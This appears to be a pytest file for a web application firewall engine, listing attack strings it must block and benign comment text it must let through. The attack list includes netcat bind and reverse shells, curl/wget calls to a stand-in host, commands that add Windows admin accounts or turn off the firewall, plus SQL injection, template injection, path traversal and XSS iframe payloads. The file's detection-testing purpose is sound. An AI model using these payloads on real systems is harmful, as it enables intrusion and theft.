"""Unit: attack shapes first met in the payloadbox lists (split fresh7), and the benign values from recorded Reddit API
traffic (PRAW's test cassettes) that a rule must let through. Every case goes through the whole engine (decoders,
prefilter, analysers), with other values than the corpus uses."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")
AGENT = Context("header", "user-agent")



ATTACKS: dict[str, tuple[str, Context, str]] = {
    # commands: substitution of a substitution, netcat handing out a shell, a quote closed then a tool
    "cmdi_dollar_paren_around_backticks": ("$(`hostname`)", BODY, "cmdi"),
    "cmdi_dollar_paren_around_backticks_with_url": ("$(`curl -s http://oast.example/p`)", QUERY, "cmdi"),
    "cmdi_netcat_bind_shell": ("ncat -l -p 9001 -e /bin/bash", BODY, "cmdi"),
    "cmdi_netcat_reverse_cmd_exe": ("nc.exe 10.9.8.7 4443 -e cmd.exe", AGENT, "cmdi"),
    "cmdi_quote_then_tool": ("\" ipconfig", BODY, "cmdi"),
    "cmdi_quote_ampersand_then_tool": ("' && systeminfo", QUERY, "cmdi"),
    "cmdi_shell_out_function_on_echo": ("passthru('echo pwned-by-fuzzer')", BODY, "cmdi"),
    "cmdi_shell_out_long_argument": ("system('echo " + "A" * 600 + "')", BODY, "cmdi"),
    "cmdi_meterpreter_sysinfo_after_separator": ("x && sysinfo", BODY, "cmdi"),
    "cmdi_strong_tool_in_indented_block_still_counts": ("see below\n\n    wget http://oast.example/x -O /tmp/x", BODY,
                                                         "cmdi"),
    "cmdi_php_exec_on_echo": ("exec('echo probe-1234')", QUERY, "cmdi"),
    "cmdi_whole_value_adds_windows_account": ("net user svc_backup S3cret! /add", BODY, "cmdi"),
    "cmdi_whole_value_adds_local_admin": ("net localgroup administrators svc_backup /ADD", QUERY, "cmdi"),
    "cmdi_whole_value_registry_write": ("reg add HKCU\\Software\\Run /v x /d c:\\x.exe", BODY, "cmdi"),
    "cmdi_whole_value_firewall_off": ("netsh advfirewall set allprofiles state off", BODY, "cmdi"),
    # SQL: a quote closed, then a union left open for the error it raises
    "sqli_quote_then_open_union_select": ("widget' union select", QUERY, "sqli"),
    "sqli_paren_quote_then_union_all_select_comment": ("7\") UNION ALL SELECT -- ", BODY, "sqli"),
    "sqli_hex_escaped_quote_then_union": ("\\x27 union distinct select", BODY, "sqli"),
    "sqli_oracle_utl_inaddr_concatenated": ("x'||utl_inaddr.get_host_address('oast.example')||'", QUERY, "sqli"),
    "sqli_oracle_dbms_pipe_concatenated": ("||DBMS_PIPE.RECEIVE_MESSAGE('a',4)", BODY, "sqli"),
    # templates: literal method calls, Twig's dump, long expressions whose closing brace is far away
    "ssti_method_on_string_literal": ("{{ \"abc\".toLowerCase() }}", BODY, "ssti"),
    "ssti_twig_dump_of_environment": ("{{ dump(_context) }}", BODY, "ssti"),
    "ssti_long_spel_expression": ("${T(java.lang.Runtime).getRuntime().exec(" + "'x'.concat(" * 40 + "'id'"
                                  + ")" * 41 + "}", BODY, "ssti"),
    # file inclusion: a /proc path with a PID placeholder or glob, a data: URI of PHP source
    "traversal_proc_with_pid_variable": ("/proc/${pid}/environ", QUERY, "traversal"),
    "traversal_proc_with_glob": ("/proc/*/cmdline", QUERY, "traversal"),
    "traversal_data_uri_of_php_source": ("data:text/x-php;base64,PD9waHAgZWNobyAxOyA/Pg==", QUERY, "traversal"),
    "traversal_sam_hive_backup": ("type %WINDIR%\\repair\\security", BODY, "traversal"),
    "traversal_repair_sam_relative": ("..\\windows\\repair\\sam", QUERY, "traversal"),
    # XSS: SVG animation that writes an event handler
    "xss_svg_set_writes_handler": ('<svg><set attributeName="onclick" to="confirm(5)"/></svg>', BODY, "xss"),
    # XSS: frames that are still script tags
    "xss_open_iframe_to_web_page": ("<iframe src=https://attacker.example/p.html>", BODY, "xss"),
    "xss_closed_iframe_after_attribute_breakout": ("'><iframe src=//attacker.example/x></iframe>", BODY, "xss"),
    "xss_closed_iframe_with_handler": ("<iframe src=https://a.example onload=confirm(7)></iframe>", BODY, "xss"),
    "xss_closed_iframe_without_web_src": ("<iframe src=data:text/html,x></iframe>", BODY, "xss"),
}


FRAMES = {
    "iframe_of_any_other_page": '<iframe src="https://login.attacker.example/sso" width="100%"></iframe>',
    "iframe_protocol_relative_in_div": '<div class="embed">\n  <iframe src="//widgets.example.org/e/abc?x=1" '
                                       'height="400"></iframe>\n</div>',
    "iframe_lookalike_of_a_provider": '<iframe src="https://www.youtube.com.attacker.example/embed/x"></iframe>',
    "iframe_provider_over_plain_http": '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
}
EMBEDS = {
    "vimeo_player": '<iframe width="560" height="315" src="https://player.vimeo.com/video/1234567" '
                    'frameborder="0" allow="autoplay; fullscreen" allowfullscreen></iframe>',
    "embedly_widget_in_div": '<div class="embed">\n  <iframe src="//cdn.embedly.com/widgets/media.html?src=x&url=y" '
                             'height="400"></iframe>\n</div>',
}


@pytest.mark.parametrize("value", FRAMES.values(), ids=FRAMES.keys())
def test_a_frame_of_any_page_but_a_known_player_is_refused(engine: Engine, value: str) -> None:
    """Secure default: a frame injected into stored content shows the attacker's page inside ours (phishing,
    clickjacking). Only complete embed code of known video/oEmbed players passes (HTML Purifier's SafeIframe)."""
    found = engine.inspect(value, BODY)
    assert found is not None and found.rule.attack == "xss"


@pytest.mark.parametrize("value", EMBEDS.values(), ids=EMBEDS.keys())
def test_embed_code_of_a_known_player_passes(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is None


@pytest.mark.parametrize(("value", "ctx", "rule"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh7_shape_is_blocked(engine: Engine, value: str, ctx: Context, rule: str) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None and found.rule.attack == rule


BENIGN: dict[str, tuple[str, Context]] = {
    # markdown indented code blocks in comments: the author's commands
    "indented_block_rm_in_comment": ("Careful with globs:\n\n    rm -f build/*.o\n\nit bit me once.", BODY),
    "indented_block_echo_in_php_question": ("My code:\n\n    $out = run($x);\n    echo $out . \"\\n\";\n\nHelp?", BODY),
    # quotes and words that are not a breakout
    "quoted_tool_name_in_prose": ("'curl' is the tool we use for health checks", BODY),
    "quote_then_prose_word": ("' netstat output attached below", BODY),
    "union_in_prose": ("The workers' union selected a new representative", QUERY),
    "template_variables_and_filters": ("Hello {{ user.name }}, {{ 'Welcome' | translate }}!", BODY),
    "net_user_in_prose": ("The net user count grew 5% in May; add more seats", BODY),
    "registry_key_in_docs": ("The setting lives under HKLM\\Software\\Acme (see reg add docs)", BODY),
    "svg_animation_of_colour": ('<svg><animate attributeName="fill" from="red" to="blue" dur="2s"/></svg>', BODY),
    "oracle_concat_of_columns": ("first_name || ' ' || last_name", QUERY),
    "proc_path_in_docs_sentence": ("read the docs about /proc and cgroups", QUERY),
}


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_benign_value_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None
